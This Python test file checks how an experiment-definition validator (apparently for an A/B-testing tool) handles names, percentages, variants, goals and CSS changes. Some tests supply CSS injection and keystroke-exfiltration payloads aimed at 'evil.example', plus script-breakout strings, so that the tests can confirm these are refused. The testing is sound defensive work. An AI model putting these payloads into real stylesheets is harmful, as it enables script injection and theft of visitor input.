"""What a valid experiment is; every test names the path that the caller sees."""

import math

import pytest
from msgspec import structs

from domain.experiment import Goal, NewVariant, VariantPatch, ids_wanted, selectors
from domain.refusals import FieldError
from tests.domain.given_facts import BOLD, BOLD_ID, CONTROL_ID, DRAFT, RUNNING, body, change, create, given

CONTROL = NewVariant(name="control", weight=50, is_control=True)
OTHER = NewVariant(name="bold", weight=50)
GOAL = Goal(name="signups", event_type="conversion", kind="conversion", role="primary")
STRANGE = ["nul\x00", "half \ud83e", "\udd89 half"]


def errors_of(**fields):
    """Read the reasons by path of a body that differs from a valid one in these fields."""
    return given().when(create(body(**fields))).errors()


def accepts(**fields):
    """Tell that a body is valid which differs from a valid one in these fields."""
    return given().when(create(body(**fields))).leads_to().version == 1


def changed(**fields):
    """Make variants whose second has one change, a valid one but for these fields."""
    return (CONTROL, structs.replace(OTHER, changes=(structs.replace(BOLD, **fields),)))


@pytest.mark.parametrize(
    ("field", "path", "longest"),
    [("name", "name", 200), ("hypothesis", "hypothesis", 5_000), ("target_url", "targetUrl", 2_048)],
)
def test_texts_have_a_longest_length(field, path, longest):
    """The limit itself is fine, one more is not."""
    assert accepts(**{field: "x" * longest})
    assert errors_of(**{field: "x" * (longest + 1)}) == {
        path: f"must be at most {longest} characters, not {longest + 1}"
    }


@pytest.mark.parametrize("name", ["", " ", "\n\t"])
def test_a_name_must_not_be_empty(name):
    """Blank is empty."""
    assert errors_of(name=name) == {"name": "must not be empty"}
    assert errors_of(variants=(CONTROL, structs.replace(OTHER, name=name))) == {
        "variants[1].name": "must not be empty"
    }


@pytest.mark.parametrize("strange", STRANGE, ids=["nul", "high half", "low half"])
def test_what_cannot_be_stored_is_refused_wherever_it_stands(strange):
    """PostgreSQL takes no NUL, UTF-8 no half of a surrogate pair."""
    goal = Goal(
        name=strange,
        event_type=strange,
        event_name=strange,
        value_field=strange,
        kind="value",
        role="primary",
    )
    change_of_class = structs.replace(BOLD, selector=strange, value=strange, property=strange, change_type="class")
    found = errors_of(
        name=strange,
        hypothesis=strange,
        target_url=strange,
        variants=(CONTROL, NewVariant(name=strange, weight=50, changes=(change_of_class,))),
        goals=(goal,),
    )
    assert set(found) == {
        "name",
        "hypothesis",
        "targetUrl",
        "variants[1].name",
        "variants[1].changes[0].selector",
        "variants[1].changes[0].value",
        "variants[1].changes[0].property",
        "goals[0].name",
        "goals[0].eventType",
        "goals[0].eventName",
        "goals[0].valueField",
    }


def test_text_in_any_language_is_welcome():
    """Whole surrogate pairs are ordinary characters here."""
    assert accepts(name="訪問者 🦉", hypothesis="Größer verkauft besser")


@pytest.mark.parametrize("match_type", ["exact", "contains", "starts_with"])
def test_a_target_is_needed_unless_every_page_takes_part(match_type):
    """An empty target would match everything or nothing, by accident."""
    assert errors_of(url_match_type=match_type) == {"targetUrl": "must not be empty"}
    assert accepts(url_match_type=match_type, target_url="/pricing")


@pytest.mark.parametrize("percentage", [-0.001, 100.001, math.nan, math.inf, -math.inf, 10**400])
def test_traffic_is_a_percentage(percentage):
    """Not finite, below 0 and above 100 are no share of the visitors."""
    assert errors_of(traffic_percentage=percentage) == {"trafficPercentage": "must be from 0 to 100"}


@pytest.mark.parametrize("percentage", [0, 0.01, 50, 100])
def test_traffic_may_be_none_or_all(percentage):
    """Both ends are fine."""
    assert accepts(traffic_percentage=percentage)


@pytest.mark.parametrize("hours", [0, -1, 2_161])
def test_the_window_is_from_an_hour_to_ninety_days(hours):
    """A window bounds how long a visitor is remembered for a goal."""
    assert errors_of(attribution_window_hours=hours) == {"attributionWindowHours": "must be from 1 to 2160 hours"}
    assert accepts(attribution_window_hours=1)
    assert accepts(attribution_window_hours=2_160)


@pytest.mark.parametrize("count", [0, 1, 21, 500])
def test_an_experiment_has_two_to_twenty_variants(count):
    """One variant is no comparison; errors do not grow with a list that is too long."""
    variants = tuple(NewVariant(name=str(number), weight=0, is_control=number == 0) for number in range(count))
    found = errors_of(variants=variants)
    assert found["variants"] in {f"must be from 2 to 20, not {count}", "must have exactly one control, not 0"}
    assert len(found) <= 21


@pytest.mark.parametrize("count", [2, 20])
def test_two_and_twenty_variants_are_fine(count):
    """Both ends, with the largest weight."""
    assert accepts(
        variants=tuple(
            NewVariant(name=str(number), weight=1_000_000, is_control=number == 0) for number in range(count)
        )
    )


@pytest.mark.parametrize("controls", [0, 2])
def test_an_experiment_has_exactly_one_control(controls):
    """Every comparison is against it."""
    variants = tuple(NewVariant(name=str(number), weight=1, is_control=number < controls) for number in range(3))
    assert errors_of(variants=variants) == {"variants": f"must have exactly one control, not {controls}"}


@pytest.mark.parametrize("weight", [0, -1, 1_000_001, math.nan, math.inf, 10**400])
def test_a_weight_is_a_positive_number(weight):
    """Weights of any scale are fine, 0 is not: such a variant is to be left out."""
    assert errors_of(variants=(CONTROL, structs.replace(OTHER, weight=weight))) == {
        "variants[1].weight": "must be above 0 and at most 1000000"
    }


def test_names_differ():
    """A name that comes again is refused at its second place."""
    assert errors_of(variants=(CONTROL, structs.replace(OTHER, name="control"))) == {
        "variants[1].name": "must differ from those before it"
    }
    assert errors_of(goals=(GOAL, GOAL)) == {"goals[1].name": "must differ from those before it"}


@pytest.mark.parametrize("name", ["color", "background-color", "-webkit-mask", "--accent"])
def test_a_style_names_a_css_property(name):
    """Vendor prefixes and custom properties are properties."""
    assert accepts(variants=changed(property=name))


@pytest.mark.parametrize("name", ["Color", "color:red", "color\n", "---x", "-", "1px", "x y", "}"])
def test_a_style_cannot_hold_more_than_a_property(name):
    """Nothing gets from a property's name into the rest of a style sheet."""
    assert set(errors_of(variants=changed(property=name))) == {"variants[1].changes[0].property"}


@pytest.mark.parametrize("name", [None, ""])
def test_a_style_needs_a_property(name):
    """Other changes need none."""
    assert errors_of(variants=changed(property=name)) == {"variants[1].changes[0].property": "must not be empty"}
    assert accepts(variants=changed(property=name, change_type="text"))


@pytest.mark.parametrize("change_type", ["css", "style"])
@pytest.mark.parametrize(
    "value",
    [
        "@import '//evil.example/x.css';",
        "width: EXPRESSION (alert(1))",
        "-moz-binding: url(//evil.example/x.xml#x)",
        "behavior : url(x.htc)",
        "background: url('JavaScript:alert(1)')",
        "color: red</style><script>",
        "@\\69mport '//evil.example/x.css';",
    ],
)
def test_styles_hold_nothing_that_runs_or_loads_a_sheet(change_type, value):
    """Whatever browsers make of it."""
    assert list(errors_of(variants=changed(value=value, change_type=change_type))) == [
        "variants[1].changes[0].value"
    ]


@pytest.mark.parametrize(
    ("selector", "value"),
    [
        ("#form", "input[value^='a'] { background: url(//evil.example/a) }"),
        ("input[name=card]", "background-image: image-set('//evil.example/a' 1x)"),
        ("#form", "input[value^='a'] { background: u\\72 l(//evil.example/a) }"),
    ],
)
def test_a_sheet_does_not_tell_others_what_visitors_type(selector, value):
    """Loading an address by an attribute is refused; a picture for an element as such is not."""
    sheet = changed(selector=selector, value=value, change_type="css")
    assert list(errors_of(variants=sheet)) == ["variants[1].changes[0].value"]
    assert accepts(variants=changed(selector="#hero", value="background: url(/hero.webp)", change_type="css"))
    for harmless in ("color: red", "scroll-behavior: smooth", 'content: "\\2713"'):
        assert accepts(variants=changed(selector="a[href]", value=harmless, change_type="css"))


def test_a_change_needs_a_selector_of_a_sane_length():
    """An empty value is fine: it empties a text."""
    path = "variants[1].changes[0]"
    assert errors_of(variants=changed(selector=" ")) == {f"{path}.selector": "must not be empty"}
    assert set(errors_of(variants=changed(selector="x" * 1_001))) == {f"{path}.selector"}
    assert set(errors_of(variants=changed(value="x" * 20_001))) == {f"{path}.value"}
    assert accepts(variants=changed(value="", selector="x" * 1_000))
    assert accepts(variants=changed(value="x" * 20_000))


def test_a_variant_has_fifty_changes_at_most():
    """The script that carries them stays small."""
    assert accepts(variants=(CONTROL, structs.replace(OTHER, changes=(BOLD,) * 50)))
    assert errors_of(variants=(CONTROL, structs.replace(OTHER, changes=(BOLD,) * 51))) == {
        "variants[1].changes": "must be at most 50, not 51"
    }


def test_goals_need_a_primary_one():
    """A decision needs to know beforehand what it is made by."""
    assert errors_of(goals=(structs.replace(GOAL, role="guardrail"),)) == {
        "goals": "must have at least one with the role primary"
    }


def test_goals_are_fifty_at_most():
    """Each goal costs a row a visitor."""
    goals = tuple(structs.replace(GOAL, name=str(number)) for number in range(51))
    assert accepts(goals=goals[:50])
    assert errors_of(goals=goals) == {"goals": "must be at most 50, not 51"}


def test_a_goal_says_what_it_counts():
    """A name, an event type, and for a value the field that holds it."""
    empty = Goal(name="", event_type="", kind="value", role="primary")
    assert errors_of(goals=(empty,)) == {
        "goals[0].name": "must not be empty",
        "goals[0].eventType": "must not be empty",
        "goals[0].valueField": "must not be empty",
    }
    assert accepts(goals=(structs.replace(GOAL, kind="value", value_field="amount"),))


@pytest.mark.parametrize("turning", ["\u202a", "\u202e", "\u2066", "\u2069"])
def test_no_name_turns_the_direction_of_what_stands_beside_it(turning):
    """Names from right to left are names; characters that turn the text around them are refused, elsewhere not."""
    reason = "must not hold characters that turn the direction of text (U+202A to U+202E, U+2066 to U+2069)"
    name = f"a{turning}b"
    assert errors_of(
        name=name,
        variants=(CONTROL, structs.replace(OTHER, name=name)),
        goals=(structs.replace(GOAL, name=name),),
    ) == {"name": reason, "variants[1].name": reason, "goals[0].name": reason}
    assert accepts(name="כותרת \u200f", hypothesis=name, variants=changed(value=name))


def test_everything_wrong_is_told_at_once():
    """One answer names every mistake, the caller's own findings first."""
    wrong = body(name="", traffic_percentage=101, variants=(CONTROL, structs.replace(OTHER, weight=0)))
    found = given().when(
        create(wrong, problems=(FieldError("variants[1].changes[0].selector", "does not parse"),))
    )
    assert list(found.errors()) == [
        "variants[1].changes[0].selector",
        "name",
        "trafficPercentage",
        "variants[1].weight",
    ]


@pytest.mark.parametrize("history", [DRAFT, RUNNING], ids=["draft", "running"])
def test_a_change_must_leave_the_experiment_valid(history):
    """A patch is held to the same rules as a creation."""
    patch = change(
        name="",
        traffic_percentage=-1,
        variants=(VariantPatch(id=CONTROL_ID), VariantPatch(id=BOLD_ID, weight=math.nan)),
    )
    assert list(given(*history).when(patch).errors()) == ["name", "trafficPercentage", "variants[1].weight"]


def test_a_caller_with_a_parser_is_given_every_selector():
    """The paths are those of the errors."""
    new = body(variants=(CONTROL, structs.replace(OTHER, changes=(BOLD, structs.replace(BOLD, selector="p")))))
    paths = ["variants[1].changes[0].selector", "variants[1].changes[1].selector"]
    assert list(selectors(new)) == list(zip(paths, ["h1", "p"], strict=True))
    patch = change(variants=(VariantPatch(id=CONTROL_ID), VariantPatch(changes=(BOLD,)))).patch
    assert list(selectors(patch)) == [(paths[0], "h1")]
    assert list(selectors(change().patch)) == []
    assert (ids_wanted(new), ids_wanted(patch), ids_wanted(change().patch)) == (2, 1, 0)
